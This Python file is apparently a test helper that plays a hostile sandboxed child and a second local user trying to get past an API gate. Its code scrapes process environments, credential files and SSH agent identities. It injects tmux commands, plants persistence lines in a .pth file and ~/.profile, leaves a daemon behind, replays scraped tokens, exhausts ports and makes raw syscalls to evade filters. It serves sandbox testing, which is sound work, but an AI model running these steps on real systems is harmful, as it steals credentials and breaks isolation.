"""A child that has read how the sandbox is built, and tries everything a process of the operator's
user could to get past the gate: `python hostile.py look SPEC` (SPEC is JSON, see `look`).

It reads the environment and command line of every process /proc shows (its ancestors among them),
the reviewer's configuration folder, the credential's file and the agent socket; sends commands to the
operator's tmux servers and reads their environment; plants a `.pth` in the reviewer's site-packages
and a line in `~/.profile`; leaves a `setsid` process behind; then sends a write straight to the API
and asks the queue who it is with every token-like word it found. It writes what it saw, did and what
answered to the report (JSON). Standard library only.

`intrude SPEC` is a second local user, run while the child calls the gate: it reads every
`/proc/*/cmdline` and `environ`, tries every URL and token-like word it found, connects to every Unix
socket and holds as many connections as it can to every TCP port the operator listens on; it prints
`holding` and keeps them until its stdin closes, then prints its report.

`later SPEC` is the same child against what the operator makes after the run started: it waits on the
FIFO `go` (the test starts a tmux server and services meanwhile), then sends the new tmux server a
command, connects to each new Unix socket, opens Unix sockets every way it knows (a domain with bits
above the low 32, io_uring) and lists the root's folders. `listen PATH...` is one of the operator's
services: it listens on each Unix socket PATH, prints `listening`, and when its stdin closes prints how
many connections it accepted.

`wait PORT_FILE GO` writes the gate's port (not its secret) and waits on the FIFO GO; `intrude-port
GATE` is another user trying the gate at that port without the secret, printing each answer's status.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import platform
import re
import socket
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from typing import Any

TOKEN_LIKE = re.compile(rb"[A-Za-z0-9_\-.~+/]{12,}")
URL_LIKE = re.compile(r"https?://[^\s\"'\\,]+")
MAX_TRIES = 400
HOLD_PER_PORT = 100


def read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError as error:
        return f"<{type(error).__name__}>".encode()


def processes() -> dict[str, dict[str, str]]:
    """Every process /proc shows: its command line and its initial environment, or why not."""
    seen: dict[str, dict[str, str]] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            seen[entry.name] = {
                "cmdline": read(entry / "cmdline").replace(b"\0", b" ").decode("utf-8", "replace"),
                "environ": read(entry / "environ").replace(b"\0", b"\n").decode("utf-8", "replace"),
            }
    return seen


def files_under(folder: Path) -> dict[str, str]:
    if not folder.is_dir():
        return {}
    return {str(path): read(path).decode("utf-8", "replace") for path in folder.rglob("*") if path.is_file()}


def agent_socket(path: str) -> str:
    """What the agent socket answers a request for its identities, or why it does not."""
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(5)
            connection.connect(path)
            connection.sendall(b"\0\0\0\1\x0b")  # SSH_AGENTC_REQUEST_IDENTITIES
            return connection.recv(65536).hex()
    except OSError as error:
        return f"<{type(error).__name__}>"


def status_with(url: str, method: str, word: str, body: object = None) -> int:
    request = urllib.request.Request(
        url,
        method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"authorization": f"Bearer {word}", "content-type": "application/json"},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return int(error.code)
    except (OSError, ValueError):
        return 0


def tmux(socket_path: str, *arguments: str) -> str:
    """What the tmux server at `socket_path` answers, or why it does not."""
    try:
        done = subprocess.run(
            ["tmux", "-S", socket_path, *arguments], capture_output=True, text=True, timeout=20
        )
    except (OSError, subprocess.TimeoutExpired) as error:
        return f"<{type(error).__name__}>"
    return f"{done.returncode}: {done.stdout}{done.stderr}"


def plant(path: str, line: str) -> str:
    """Append `line` to `path`; what happened."""
    try:
        with open(path, "a") as planted:
            planted.write(line + "\n")
        return "written"
    except OSError as error:
        return f"<{type(error).__name__}: {error.strerror}>"


def through_gate(title: str) -> int:
    return status_with(os.environ["REVIEWER_API_URL"] + "/v1/tickets", "POST", "none", {"title": title})


def look(spec_text: str) -> None:
    spec: dict[str, Any] = json.loads(spec_text)
    seen: dict[str, Any] = {
        "environ": dict(os.environ),
        "processes": processes(),
        "config": files_under(Path(spec["config"])),
        "credential_file": read(Path(spec["credential_file"])).decode("utf-8", "replace"),
        "agent_socket": agent_socket(spec["agent_socket"]),
        "tmux": {
            path: [
                tmux(path, "run-shell", f"touch {spec['tmux_proof']}"),
                tmux(path, "show-environment", "-g"),
                tmux(path, "capture-pane", "-p"),
            ]
            for path in spec.get("tmux_sockets", [])
        },
    }
    done = {
        "planted": {path: plant(path, spec["plant_line"]) for path in spec.get("plant", [])},
    }
    if spec.get("leftover"):
        # setsid, as a daemon would: a session and process group of its own, its parent gone.
        subprocess.Popen(
            ["setsid", "sh", "-c", f"exec python3 -c 'import time; time.sleep(3600)' {spec['leftover']}"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    api, queue = spec["api"], spec["queue"]
    words = sorted({word.decode() for word in TOKEN_LIKE.findall(json.dumps(seen).encode())} - {api, queue})[
        :MAX_TRIES
    ]
    accepted = {
        "api": [
            word
            for word in words
            if 0 < status_with(f"{api}/v1/tickets/t3", "PATCH", word, {"status": "closed"}) < 400
        ],
        "queue": [word for word in words if status_with(f"{queue}/v1/whoami", "GET", word) == 200],
    }
    # The host's loopback services and the network: does anything answer at all (0: no connection)?
    reached = {
        "api": status_with(f"{api}/v1/tickets", "GET", "none"),
        "queue": status_with(queue, "GET", "none"),
    }
    gate: list[int] = []
    if spec.get("ready"):
        gate.append(through_gate("child call 1"))
        Path(spec["ready"]).write_text("ready")  # a FIFO: the test holds it open for reading
        with open(spec["go"]) as released:
            released.read()
        gate.append(through_gate("child call 2"))
    report = {
        "seen": seen,
        "done": done,
        "words": words,
        "accepted": accepted,
        "reached": reached,
        "gate": gate,
    }
    Path(spec["report"]).write_text(json.dumps(report))


def listening_ports(uid: int) -> list[tuple[str, int]]:
    """The loopback TCP ports `uid` listens on, from /proc/net/tcp (every user may read it)."""
    found: list[tuple[str, int]] = []
    for table, host in (("/proc/net/tcp", "127.0.0.1"), ("/proc/net/tcp6", "::1")):
        for line in read(Path(table)).decode(errors="replace").splitlines()[1:]:
            fields = line.split()
            if len(fields) > 7 and fields[3] == "0A" and int(fields[7]) == uid:
                found.append((host, int(fields[1].rsplit(":", 1)[1], 16)))
    return found


def unix_sockets() -> list[str]:
    lines = read(Path("/proc/net/unix")).decode(errors="replace").splitlines()[1:]
    return sorted({line.split(None, 7)[7] for line in lines if len(line.split(None, 7)) == 8} - {""})


def connects(path: str) -> bool:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2)
            connection.connect(path if not path.startswith("@") else "\0" + path[1:])
            return True
    except OSError:
        return False


def owner(pid: str) -> int | None:
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


def intrude(spec_text: str) -> None:
    spec: dict[str, Any] = json.loads(spec_text)
    operator = int(spec["operator_uid"])
    seen = processes()
    # What the operator's processes show is what it tries (other users' are not this attack's).
    text = json.dumps({pid: shown for pid, shown in seen.items() if owner(pid) == operator})
    words = sorted({word.decode() for word in TOKEN_LIKE.findall(text.encode())})[:MAX_TRIES]
    urls = sorted(set(URL_LIKE.findall(text)))
    ports = listening_ports(operator)
    held: list[socket.socket] = []
    for host, port in ports:
        for _ in range(HOLD_PER_PORT):
            try:
                held.append(socket.create_connection((host, port), timeout=2))
            except OSError:
                break
    sockets = [path for path in unix_sockets() if connects(path)]
    operators_sockets = []
    for path in sockets:
        try:
            if os.stat(path).st_uid == operator:
                operators_sockets.append(path)
        except OSError:
            continue
    targets = [*urls, *(f"http://{host}:{port}" for host, port in ports)]
    accepted = [
        f"{target} {word}"
        for target in targets
        for word in words[:50]
        if 0 < status_with(f"{target}/v1/tickets", "POST", word, {"title": "second user"}) < 400
    ]
    print("holding", flush=True)
    sys.stdin.read()
    report = {
        "seen": seen,
        "urls": urls,
        "operator_ports": ports,
        "held": len(held),
        "operator_sockets": operators_sockets,
        "accepted": accepted,
    }
    for connection in held:
        connection.close()
    print(json.dumps(report), flush=True)


def wait(port_file: str, go: str) -> None:
    Path(port_file).write_text(str(urllib.parse.urlsplit(os.environ["REVIEWER_API_URL"]).port))
    with open(go) as released:
        released.read()


def intrude_port(gate: str) -> None:
    for method, path in [("POST", "/v1/tickets"), ("GET", "/v1/tickets"), ("POST", "/x/v1/tickets")]:
        print(status_with(gate + path, method, "guess", {} if method == "POST" else None))


SYSCALLS = {
    "x86_64": {"socket": 41, "io_uring_setup": 425},
    "aarch64": {"socket": 198, "io_uring_setup": 425},
}


def raw_syscall(name: str, *arguments: int) -> str:
    """`name` called without the C library's wrapper: "ok", or the error's name."""
    libc = ctypes.CDLL(None, use_errno=True)
    number = SYSCALLS[platform.machine()][name]
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(value) for value in arguments))
    if result >= 0:
        os.close(result)
        return "ok"
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def attempt(make: Any) -> str:
    try:
        made = make()
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))
    for each in made if isinstance(made, tuple) else (made,):
        each.close()
    return "ok"


def connect_said(path: str) -> str:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(5)
            connection.connect(path)
            return "connected"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))


def listing(folder: str) -> list[str] | str:
    try:
        return sorted(os.listdir(folder))
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error))


def later(spec_text: str) -> None:
    spec: dict[str, Any] = json.loads(spec_text)
    Path(spec["ready"]).write_text("ready")
    with open(spec["go"]) as released:
        released.read()
    params = ctypes.create_string_buffer(120)
    report = {
        "tmux": tmux(spec["late_tmux"], "run-shell", f"touch {spec['tmux_proof']}"),
        "connected": {path: connect_said(path) for path in spec["late_sockets"]},
        "unix_socket": attempt(lambda: socket.socket(socket.AF_UNIX)),
        "unix_datagram": attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)),
        "high_bits": raw_syscall("socket", (1 << 32) | socket.AF_UNIX, socket.SOCK_STREAM, 0),
        "io_uring": raw_syscall("io_uring_setup", 1, ctypes.addressof(params)),
        "socketpair": attempt(socket.socketpair),
        "inet": attempt(lambda: socket.socket(socket.AF_INET)),
        "listing": {folder: listing(folder) for folder in spec["look_in"]},
        "read": {path: read(Path(path)).decode("utf-8", "replace")[:200] for path in spec["read"]},
        "gate": through_gate("after the operator's new sockets"),
    }
    Path(spec["report"]).write_text(json.dumps(report))


def listen(*paths: str) -> None:
    accepted = [0]

    def serve(listener: socket.socket) -> None:
        while True:
            connection, _ = listener.accept()
            accepted[0] += 1
            connection.close()

    for path in paths:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(path)
        listener.listen(8)
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
    print("listening", flush=True)
    sys.stdin.read()
    print(accepted[0], flush=True)


if __name__ == "__main__":
    mode, *arguments = sys.argv[1:]
    {
        "look": look,
        "later": later,
        "listen": listen,
        "intrude": intrude,
        "wait": wait,
        "intrude-port": intrude_port,
    }[mode](*arguments)
